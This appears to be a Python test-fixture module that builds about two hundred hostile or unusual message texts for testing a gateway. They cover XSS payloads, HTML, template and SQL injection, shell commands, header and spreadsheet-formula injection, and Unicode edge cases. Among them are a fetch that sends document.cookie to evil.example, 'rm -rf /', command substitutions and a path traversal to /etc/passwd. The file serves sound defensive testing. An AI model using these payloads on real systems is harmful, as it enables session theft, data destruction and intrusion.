"""Two hundred texts that somebody may send, each of which some page has taken for more than text."""

from __future__ import annotations

from itertools import product

LONGEST = 1600
"""Characters of a text."""

CALLS = (
    "alert(1)",
    "alert`1`",
    "top.hurt=1",
    "document.title='hurt'",
    "fetch('//evil.example/'+document.cookie)",
)

ELEMENTS = (
    "<script>{}</script>",
    "<script type=module>{}</script>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src='x' onerror='{}'/>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href='javascript:{}'>a prize</a>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
)

MARKUP = (
    "<b>bold</b> & <i>italic</i>",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>Go</button></form>",
    "<img src=https://evil.example/x.png>",
    "<object data=https://evil.example/></object>",
    "<marquee>hello</marquee>",
    "<plaintext>",
    "<!-- a comment",
    "<!DOCTYPE html>",
    "<![CDATA[ text ]]>",
    "<p style='position:fixed;inset:0;background:red'>",
    "<template><slot></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;amp;",
    "&#60;b&#62;",
    "&nbsp;&zwj;&#x202e;",
    "<",
    ">",
    "<<<>>>",
    "&",
    "\"'`",
)

TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%s %d %(name)s %n",
    "{0} {name} {!r}",
    "$(touch /tmp/hurt)",
    "`id`",
    "; rm -rf / #",
    "$HOME $'\\x41'",
    "'; DROP TABLE messages; --",
    '" OR ""="',
    "%00%0d%0a%22",
    "../../../../etc/passwd",
    "C:\\Users\\quo\\n",
)

JSONLIKE = (
    '{"data":{"id":"AC123abc"}}',
    '"}]}</script>',
    "\\",
    "\\\\",
    '\\"',
    "\\u0000",
    "\\ud83d",
    "\u2028 and \u2029",
    "null",
    "true",
    "NaN",
    "-0",
    "1e999",
    "[]",
    "data: event\n\ndata: another",
    "event: changed\ndata: 1\n\n",
    "a\r\nSet-Cookie: hurt=1",
    "retry: 0\n\n",
    '=HYPERLINK("https://evil.example")',
    "@SUM(1)",
)

UNICODE = (
    "\u202eevil\u202c text",
    "invoice\u202egnp.exe",
    "\u2066isolated\u2069 \u2067right\u2069",
    "שלום, מה שלומך? 15:30",
    "مرحبا 123 (test) العالم",
    "\u200f!hello\u200f world!",
    "👨‍👩‍👧‍👦",
    "👩🏽‍🚀🧑🏿‍🤝‍🧑🏻",
    "🏳️‍🌈🏴‍☠️🇩🇪🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "1️⃣#️⃣*️⃣",
    "e" + "\u0301" * (LONGEST - 1),
    "Z" + "\u0310\u0321\u0353\u036f" * 200,
    "\u0301" * 50,
    "\u200b\u200d\u2060\ufeffhidden",
    "﷽" * 40,
    "𒐫𒈙⸻꧅",
    "ｆｕｌｌ ｗｉｄｔｈ",
    "𝕳𝖊𝖑𝖑𝖔",
    "ﬀ ﬁ ß ẞ İ ı",
    "Ω≈ç√∫˜µ≤≥÷",
    "漢字かな交じり文と한글",
    "ไทยไม่เว้นวรรคระหว่างคำ",
    "नमस्ते क्षत्रिय",
    "\U0010ffff\ufffe\uffff",
    "\ue000\uf8ff",
    "a\u00a0b\u2007c\u202fd",
    "\u3164\u115f",
    "\u001b[31mred\u001b[0m",
    "\u0007\u0008\u007f bell",
    "\u0085\u009f",
    "tab\there",
    "W" * LONGEST,
    "😀" * (LONGEST // 2),
    "https://example.com/" + "a" * 400,
    " ".join("word" for _ in range(300)),
    "line\n" * 60,
    "   many   spaces   ",
    "-",
    "0",
    ".",
    "undefined",
    "[object Object]",
    "None",
    "STOP",
)

NASTY = tuple(
    dict.fromkeys(
        [
            *(element.format(call) for element, call in product(ELEMENTS, CALLS)),
            *MARKUP,
            *TEMPLATES,
            *JSONLIKE,
            *UNICODE,
        ]
    )
)
"""All of them, without one twice."""

REFUSED = "before\0after"
"""What no text may hold: the gateway says so, and keeps nothing of it."""
